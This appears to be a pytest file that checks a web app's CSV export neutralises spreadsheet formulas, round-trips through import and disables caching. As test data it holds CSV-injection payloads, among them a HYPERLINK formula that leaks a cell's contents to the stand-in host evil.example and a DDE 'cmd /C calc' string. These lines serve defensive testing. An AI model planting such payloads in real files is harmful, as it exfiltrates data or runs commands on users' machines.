"""CSV exports: one writer that never lets Excel run a cell as a formula, exports that no cache keeps, and
exports that the imports read back unchanged."""
import csv
import io
from datetime import date

import pytest
from sqlalchemy import select

from webapp import csvfiles
from webapp.extensions import db
from webapp.workers import csv_io
from webapp.workers.models import Worker

from . import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Klik")'


@pytest.mark.parametrize("value, written", [
    (HYPERLINK, "'" + HYPERLINK),
    ("=1+1", "'=1+1"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("+31 6 1234 5678", "'+31 6 1234 5678"),
    # numbers stay numbers
    (-300, -300),
    (0, 0),
    (-3.5, -3.5),
    ("-300", "-300"),
    ("-3,00", "-3,00"),
    ("+31612345678", "+31612345678"),
    ("2026-W47", "2026-W47"),
    # ordinary text is untouched, also with a sign or an apostrophe further on
    ("Jan", "Jan"),
    ("'t Hart", "'t Hart"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
])
def test_a_cell_that_could_run_as_a_formula_is_prefixed(value, written):
    assert csvfiles.neutralise(value) == written


@pytest.mark.parametrize("cell", [HYPERLINK, "=1+1", "+31 6 1234", "-", "@x", "'t Hart", "-3,00", "Jan"])
def test_what_the_writer_neutralised_reads_back_as_it_was(cell):
    text = csvfiles.write(["name"], [[cell]])
    rows, errors = csvfiles.read(text, ["name"])
    assert errors == [] and rows[0][1]["name"] == cell


def test_every_row_and_the_header_go_through_the_writer():
    text = csvfiles.write(["=kop"], [["=a"], [-600]])
    assert text.splitlines() == ["'=kop", "'=a", "-600"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


@pytest.fixture
def export_data(app, catalogue):
    app.config["DAGDEEL_NOW"] = "2026-11-23T14:05"
    factories.ShelterFactory(name="De Boei")
    factories.WorkerFactory(external_id="E1", first_name=HYPERLINK, last_name="@Peters", phone="+31 6 1234 5678",
                            roepnaam="-")
    db.session.commit()


def test_worker_export_is_neutralised_and_imports_back_unchanged(client, auth, export_data):
    auth.login("supervisor")
    response = client.get("/medewerkers/export.csv")
    row = dict(zip(csv_io.COLUMNS, _rows(response.get_data(as_text=True))[1]))
    assert (row["first_name"], row["last_name"], row["phone"], row["roepnaam"]) == (
        "'" + HYPERLINK, "'@Peters", "'+31 6 1234 5678", "'-")
    parsed = csv_io.parse(csvfiles.decode(response.data))
    assert parsed.ok, parsed.messages()
    assert csv_io.apply(parsed) == (0, 1)
    db.session.expire_all()
    worker = db.session.scalar(select(Worker).where(Worker.external_id == "E1"))
    assert (worker.first_name, worker.last_name, worker.phone, worker.roepnaam) == (
        HYPERLINK, "@Peters", "+31 6 1234 5678", "-")


@pytest.mark.parametrize("url", ["/medewerkers/export.csv", "/werkvloer/export.csv?van=2026-11-23&tot=2026-11-23",
                                 "/uitbetaling/export.csv?van=2026-11-23&tot=2026-11-23"])
def test_exports_are_not_stored_by_any_cache(client, auth, export_data, url):
    auth.login("admin")
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"


def test_payout_export_neutralises_names_and_keeps_money_numbers(client, auth, export_data):
    from datetime import time

    from webapp.attendance.operations import set_status
    from webapp.payouts import operations

    operations.ensure_default_rules()
    lnw = factories.WorkshopFactory(name="Loon naar Werken", programme="lnw", blocks=[("werkdag", time(10), time(14))])
    worker = db.session.scalar(select(Worker).where(Worker.external_id == "E1"))
    set_status(worker.id, date(2026, 11, 23), lnw.blocks[0].id, "aanwezig")
    db.session.commit()
    auth.login("supervisor")
    rows = _rows(client.get("/uitbetaling/export.csv?van=2026-11-23&tot=2026-11-23").get_data(as_text=True))
    row = dict(zip(rows[0], rows[1]))
    assert row["worker"] == "'- @Peters"  # roepnaam "-" and last name "@Peters"
    assert row["premium_cents"] == "600" and row["dagdelen"] == "1"  # numbers Excel can add up
